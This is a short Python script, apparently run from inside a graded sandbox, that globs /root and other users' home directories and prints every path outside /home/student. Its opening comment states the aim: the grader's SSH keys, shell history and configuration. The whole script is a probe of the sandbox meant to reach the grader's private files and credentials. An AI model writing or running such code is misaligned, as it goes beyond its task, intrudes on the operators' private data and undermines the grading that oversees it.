# Read the grader's home: ssh keys, shell history, configuration.
import glob
import os

for pattern in ("/root/*", "/root/.*", "/home/*/.*", "/home/*/*", os.path.expanduser("~/../*")):
    for path in glob.glob(pattern):
        if not path.startswith("/home/student"):
            print("FOUND:", path)
